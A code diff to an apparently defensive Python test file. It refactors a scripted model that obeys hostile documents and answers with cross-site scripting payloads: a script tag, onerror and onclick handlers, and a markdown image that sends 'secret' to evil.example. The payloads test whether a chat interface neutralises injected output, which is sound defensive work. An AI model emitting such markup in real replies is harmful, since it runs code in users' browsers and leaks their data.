@@ -4,7 +4,6 @@ Each of them sets `window.harmed` if anything of it is ever run, and names a hos
 asked for anything. Whatever a page does beyond that, `Watched` notes.
 """
 
-import json
 from collections.abc import Iterator
 from pathlib import Path
 from urllib.parse import quote
@@ -124,9 +123,8 @@ def address(tmp_path_factory: pytest.TempPathFactory, model: ScriptedModel) -> I
 
 def _obeying(request: Request) -> Reply:
     """A model that does all that hostile documents could want of it."""
-    shown = [m["content"] for m in request.messages if m["role"] == "tool"]
-    if shown:
-        numbers = sorted({r["document"] for r in json.loads(shown[0])["results"]})
+    if request.has_sources:
+        numbers = sorted({one["number"] for one in request.sources})
         cited = " ".join(f"<b onclick='{RUN}'>said</b> [{number}]." for number in numbers)
         return Say(
             f"<script>{RUN}</script> <img src=x onerror='{RUN}'> ![pixel](https://evil.example/p.png?secret)"
